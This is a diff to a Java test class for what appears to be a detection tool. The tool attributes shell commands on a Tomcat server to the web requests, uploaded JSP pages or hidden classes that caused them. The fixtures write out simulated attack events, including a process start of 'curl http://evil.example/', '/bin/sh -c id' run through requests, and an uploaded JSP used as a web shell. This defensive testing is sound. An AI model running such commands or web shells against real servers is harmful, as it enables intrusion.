@@ -185,11 +185,9 @@ class UseOfShellTest {
   @Test
   void use_byAThread_isToldWithTheRequestThatBroughtItsClass() throws Exception {
     injected("x.Worker");
-    rows.thread("Timer-7")
-        .on("java.lang.ProcessBuilder.start(P.java:1)", "x.Worker.run(W.java:1)");
+    rows.thread("Timer-7").on("java.lang.ProcessBuilder.start(P.java:1)", "x.Worker.run(W.java:1)");
     rows.event("whorl.ProcessStart", "command", "curl http://evil.example/", "pid", 7);
-    rows.thread("Timer-7")
-        .on("java.lang.ProcessBuilder.start(P.java:1)", "x.Worker.run(W.java:1)");
+    rows.thread("Timer-7").on("java.lang.ProcessBuilder.start(P.java:1)", "x.Worker.run(W.java:1)");
     rows.event("whorl.ProcessStart", "command", "id", "pid", 8);
 
     Finding use = way("Use of the class x.Worker by the thread Timer-7");
@@ -251,15 +249,13 @@ class UseOfShellTest {
     rows.of("r2", "whorl.ProcessStart", "command", "id", "pid", 7);
     rows.request("r2", "GET", "/", "", ADDRESS, 200);
 
-    assertThat(ways())
-        .contains("Use of the page /opt/webapps/ROOT/in-dex.jsp through GET /");
+    assertThat(ways()).contains("Use of the page /opt/webapps/ROOT/in-dex.jsp through GET /");
   }
 
   @Test
   void compilingAPage_isPartOfItsUse_andNoDeedOfItsOwn() throws Exception {
     String work = "/opt/tomcat/work/Catalina/localhost/ROOT/org/apache/jsp/a_jsp.";
-    rows.of(
-        "r1", "whorl.FileOpen", "path", "/opt/tomcat/webapps/ROOT/a.jsp", "access", "write");
+    rows.of("r1", "whorl.FileOpen", "path", "/opt/tomcat/webapps/ROOT/a.jsp", "access", "write");
     rows.request("r1", "POST", "/upload", "", ADDRESS, 200);
     String[] compiler = {
       "java.io.FileOutputStream.<init>(FileOutputStream.java:235)",
@@ -320,7 +316,7 @@ class UseOfShellTest {
     rows.request("r2", "GET", "/cart", "", ADDRESS, 200);
 
     assertThat(way("Way in: a command run by a request through GET /cart").text())
-        .contains("The class shop.Cart$$Fast did it: the thread main defined it")
+        .contains("The class shop.Cart$$Fast: the thread main defined it")
         .contains("does not know whether a library made it")
         .doesNotContain(NOTHING);
   }
@@ -328,13 +324,70 @@ class UseOfShellTest {
   @Test
   void aNameThatAnOrdinaryClassHasToo_provesNothing() throws Exception {
     injected("shop.Convert");
-    rows.event(
-        "whorl.ClassLoad", "className", "shop.Convert", "codeSource", "file:/app/shop.jar");
+    rows.event("whorl.ClassLoad", "className", "shop.Convert", "codeSource", "file:/app/shop.jar");
     rows.on(stack("java.lang.ProcessBuilder.start(P.java:1)", "shop.Convert.run(C.java:1)"));
     rows.of("r2", "whorl.ProcessStart", "command", "/bin/sh -c id", "pid", 7);
     rows.request("r2", "GET", "/convert", "", ADDRESS, 200);
 
     assertThat(ways()).contains("Way in: a command run by a request through GET /convert");
+  }
+
+  @Test
+  void aPageThatTheServerUnpacked_isTheApplications() throws Exception {
+    rows.on("java.io.F.x(F.java:1)", "org.apache.catalina.startup.ExpandWar.expand(E.java:1)");
+    rows.event("whorl.FileOpen", "path", "/opt/webapps/a/run.jsp", "access", "write");
+    rows.on(
+        stack("java.lang.ProcessBuilder.start(P.java:1)", "org.apache.jsp.run_jsp.x(r.java:1)"));
+    rows.of("r2", "whorl.ProcessStart", "command", "/bin/sh -c id", "pid", 7);
+    rows.request("r2", "GET", "/a/run.jsp", "", ADDRESS, 200);
+
+    assertThat(ways()).containsExactly("Way in: a command run by a request through GET /a/run.jsp");
+  }
+
+  @Test
+  void aPageOfTheSameNameInAnotherFolder_isAnotherPage() throws Exception {
+    rows.of("r1", "whorl.FileOpen", "path", "/opt/webapps/a/up/run.jsp", "access", "write");
+    rows.request("r1", "POST", "/upload", "", ADDRESS, 200);
+    rows.on(
+        stack("java.lang.ProcessBuilder.start(P.java:1)", "org.apache.jsp.admin.run_jsp.x(r:1)"));
+    rows.of("r2", "whorl.ProcessStart", "command", "/bin/sh -c id", "pid", 7);
+    rows.request("r2", "GET", "/a/admin/run.jsp", "", ADDRESS, 200);
+
+    assertThat(ways()).contains("Way in: a command run by a request through GET /a/admin/run.jsp");
+  }
+
+  @Test
+  void aClassOfTheApplicationThatIsRegisteredForARequest_isNoShell() throws Exception {
+    rows.of("r1", "whorl.Registration", "kind", "servlet", "className", "shop.Convert");
+    rows.request("r1", "GET", "/manager/reload", "", "10.0.0.1", 200);
+    rows.on(stack("java.lang.ProcessBuilder.start(P.java:1)", "shop.Convert.doGet(C.java:1)"));
+    rows.of("r2", "whorl.ProcessStart", "command", "/bin/sh -c id", "pid", 7);
+    rows.request("r2", "GET", "/convert", "", ADDRESS, 200);
+
+    assertThat(way("Way in: a command run by a request through GET /convert").text())
+        .contains(NOTHING);
+  }
+
+  @Test
+  void aHiddenClass_whoseFramesAreOnNoStack_isNamedAsWhatMayHaveDoneIt() throws Exception {
+    rows.of(
+        "r1",
+        "whorl.ClassDefine",
+        "className",
+        "x.Hidden/0x0001",
+        "origin",
+        "hidden",
+        "hidden",
+        true);
+    rows.alert("r1", "Class Defined", "high");
+    rows.request("r1", "POST", "/inject", "", ADDRESS, 200);
+    rows.on(stack("java.lang.ProcessBuilder.start(P.java:1)"));
+    rows.of("r2", "whorl.ProcessStart", "command", "/bin/sh -c id", "pid", 7);
+    rows.request("r2", "GET", "/any", "", ADDRESS, 200);
+
+    assertThat(way("Way in: a command run by a request through GET /any").text())
+        .contains("A hidden class came in before", "x.Hidden: the request POST /inject defined it")
+        .doesNotContain(NOTHING);
   }
 
   @Test
@@ -360,7 +413,8 @@ class UseOfShellTest {
 
     assertThat(Evidences.report(rows).summary())
         .contains("The gravest way in began at 2026-11-25 09:36:29.984 UTC")
-        .contains("expression injection through POST /inject, by 203.0.113.7; there was also use of")
+        .contains(
+            "expression injection through POST /inject, by 203.0.113.7; there was also use of")
         .contains("Between 09:36:29.984 and ");
   }
 }
